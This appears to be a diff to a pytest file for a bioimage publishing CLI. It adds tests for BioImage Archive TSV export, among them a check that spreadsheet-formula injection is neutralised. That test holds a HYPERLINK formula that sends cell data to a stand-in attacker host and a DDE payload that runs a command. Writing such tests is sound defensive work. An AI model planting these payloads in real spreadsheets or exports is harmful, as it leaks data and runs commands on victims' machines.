@@ -5,7 +5,10 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+import numpy as np
 import pytest
+import tifffile
+import yaml
 from typer.testing import CliRunner
 
 from flows.cli import app
@@ -28,6 +31,11 @@ def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
         encoding="utf-8",
     )
     make_plain_tiff(inbox / "bare" / "p.tif")
+    labelled = make_ome_tiff(inbox / "labelled" / "l.ome.tif", seed=5)
+    first = tifffile.imread(labelled).reshape(2, 4, 96, 80)[0]
+    mask = (first > np.percentile(first, 80)).astype(np.uint16)
+    tifffile.imwrite(labelled.with_name("l.labels.cells.tif"), mask, photometric="minisblack")
+    (inbox / "labelled" / "fairway.yaml").write_text(SIDECAR_YAML, encoding="utf-8")
     age(inbox)
     home = root / "home"
     write_registry(home)
@@ -126,7 +134,6 @@ def test_bioimage_archive_package(home: Path, tmp_path: Path) -> None:
         "Imaging Method",
         "Study Component",
         "Associations",
-        "Annotations",
     } <= set(sections)
     assert sections["Study"]["License"] == ["CC BY 4.0"]
     assert len(sections["Study"]["Keywords"]) == 4
@@ -169,3 +176,75 @@ def test_omero_plan_without_a_server(home: Path) -> None:
     assert json.loads(upload.stdout)["actions"][-3]["transfer"] == "upload"
     live = runner.invoke(app, ["--home", str(home), "publish", dataset, "--to", "omero"])
     assert live.exit_code == 2 and "no OMERO server configured" in live.output
+
+
+def _bia(home: Path, dataset: str, dest: Path) -> Path:
+    result = runner.invoke(
+        app, ["--home", str(home), "publish", dataset, str(dest), "--to", "bia", "--json"]
+    )
+    assert result.exit_code == 0, result.output
+    return Path(json.loads(result.stdout)["path"])
+
+
+def test_bia_pagetab_leaves_the_accession_to_biostudies(home: Path, tmp_path: Path) -> None:
+    """Issue 13 item 13: no custom accession, values not reprs, Annotations only with labels."""
+    plain = _bia(home, _dataset(home, "a.ome.tif"), tmp_path / "plain")
+    text = (plain / "submission.tsv").read_text(encoding="utf-8")
+    assert text.splitlines()[0].split("\t") == ["Submission", ""]
+    sections = dict(_pagetab_sections(text))
+    assert "Annotations" not in sections  # the dataset has no label images
+    protocol = yaml.safe_load(SIDECAR_YAML)["specimen"]["sample_preparation_protocol"]
+    assert "#1.5 glass-bottom dishes" in protocol  # the demo sidecar keeps text after '#'
+    assert sections["Specimen"]["Sample preparation protocol"] == [protocol]
+    assert "[" not in text and "]" not in text  # no Python list reprs anywhere
+    labelled = _bia(home, _dataset(home, "l.ome.tif"), tmp_path / "labelled")
+    sections = dict(_pagetab_sections((labelled / "submission.tsv").read_text(encoding="utf-8")))
+    assert sections["Annotations"]["Annotation Type"] == ["segmentation_mask"]
+    assert sections["Annotations"]["Annotation Overview"] == [
+        "Focal adhesions segmented in every Z plane."
+    ]
+
+
+FORMULA = '=HYPERLINK("http://attacker.invalid/?d="&A1,"x")'
+
+
+def _cells(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(text), delimiter="\t"))
+
+
+def test_bia_tables_neutralise_spreadsheet_formulas(home: Path, tmp_path: Path) -> None:
+    """Issue 13 item 3: a formula set by a curator is inert text in every TSV fairway writes."""
+    dataset = _dataset(home, "l.ome.tif")
+    fixed = runner.invoke(
+        app,
+        [
+            "--home",
+            str(home),
+            "fix",
+            dataset,
+            "--set",
+            f"study.keywords[4]={FORMULA}",
+            "--set",
+            "channels[0].name=@SUM(1+1)*cmd|' /C calc'!A0",
+            "--reason",
+            "test",
+        ],
+    )
+    assert fixed.exit_code == 0, fixed.output
+    folder = _bia(home, dataset, tmp_path)
+    submission = (folder / "submission.tsv").read_text(encoding="utf-8")
+    file_list = (folder / "file_list.tsv").read_text(encoding="utf-8")
+    # OWASP: a single quote before the formula, the cell quoted, inner quotes doubled
+    assert '"\'=HYPERLINK(""http://attacker.invalid/?d=""&A1,""x"")"' in submission
+    assert "\"'@SUM(1+1)*cmd|' /C calc'!A0" in file_list
+    for text in (submission, file_list):
+        for row in _cells(text):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    keywords = dict(_pagetab_sections(submission))["Study"]["Keywords"]
+    assert len(keywords) == 5  # the four of the sidecar and the curator's
+    assert keywords[4] == '"\'=HYPERLINK(""http://attacker.invalid/?d=""&A1,""x"")"'
+    assert [r[4] for r in _cells(file_list)][1].startswith("'@SUM(1+1)")
